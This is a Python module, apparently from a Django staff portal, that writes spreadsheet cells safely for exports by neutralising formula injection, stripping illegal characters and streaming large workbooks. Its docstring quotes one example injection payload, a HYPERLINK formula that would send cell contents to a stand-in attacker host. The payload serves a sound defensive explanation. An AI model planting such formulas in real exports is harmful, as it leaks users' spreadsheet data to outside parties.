"""The one cell writer for every spreadsheet the portal exports (overdue board, accountability).

What staff typed goes into a cell as text and stays text:
- a value starting with = + - @ (or a tab or CR) would be read by Excel or LibreOffice as a
  formula, e.g. =HYPERLINK("https://evil.example/?"&A2, "点击") sends neighbouring cells away.
  As OWASP's "CSV Injection" advice says, such a value gets a leading apostrophe, and the cell is
  written as a string (never a formula), so it survives a "save as CSV" too;
- characters an .xlsx file cannot hold (C0 controls other than tab, LF and CR, e.g. a vertical
  tab) make openpyxl raise IllegalCharacterError: each becomes a space;
- times are real Excel datetimes in the portal's time zone (Asia/Shanghai): Excel has no time
  zones, so an aware datetime is turned into naive local time with a date-time number format;
- numbers (int, float, Decimal) and booleans stay numbers and booleans.

Large exports (the board: every open deadline of a province) use a write-only workbook
(streaming_workbook) whose rows go to a temporary file as they are appended, and are sent with
stream(): memory does not grow with the number of rows.
"""

import datetime
import decimal
import tempfile

from django.http import FileResponse
from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
# A finished workbook up to this size stays in memory; a larger one is written to a temporary file.
SPOOL_BYTES = 4 * 1024 * 1024


def text(value) -> str:
    """A string safe as a cell's text: illegal characters replaced by spaces, a formula prefix
    neutralised with a leading apostrophe. Any value is turned into str first (lazy translations too)."""
    value = ILLEGAL_CHARACTERS_RE.sub(" ", str(value))
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    return value


def append(sheet, values) -> None:
    """Append one row to an openpyxl worksheet (ordinary or write-only), each value through the rules above.

    values: an iterable of None, bool, int, float, Decimal, datetime (aware: shown in local time;
    naive: taken as local time already), date, or anything else (written as text)."""
    sheet.append([_cell(sheet, value) for value in values])


def _cell(sheet, value) -> WriteOnlyCell:
    # A cell made before it is placed: Worksheet.append accepts it in both kinds of workbook.
    cell = WriteOnlyCell(sheet, _plain(value))
    if isinstance(value, datetime.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, datetime.date):
        cell.number_format = DATE_FORMAT
    elif cell.value is not None and not isinstance(value, (bool, int, float, decimal.Decimal)):
        cell.data_type = "s"  # text, whatever it looks like: never a formula
    return cell


def _plain(value):
    if value is None or isinstance(value, (bool, int, float, decimal.Decimal)):
        return value
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.make_naive(value, timezone.get_default_timezone())
        return value.replace(microsecond=0)
    if isinstance(value, datetime.date):
        return value
    return text(value)


def streaming_workbook() -> Workbook:
    """A write-only workbook with no sheet yet (add them with create_sheet): each appended row is
    written out at once, so that a sheet of a million rows does not sit in memory."""
    return Workbook(write_only=True)


def stream(book: Workbook, filename: str) -> FileResponse:
    """The workbook as a download named `filename` (ASCII, made by the caller), sent in chunks
    (a StreamingHttpResponse) from a temporary file that lives in memory only while it is small."""
    spool = tempfile.SpooledTemporaryFile(max_size=SPOOL_BYTES)
    book.save(spool)
    spool.seek(0)
    answer = FileResponse(spool, content_type=CONTENT_TYPE, as_attachment=True, filename=filename)
    answer["Cache-Control"] = "private, no-store"
    return answer
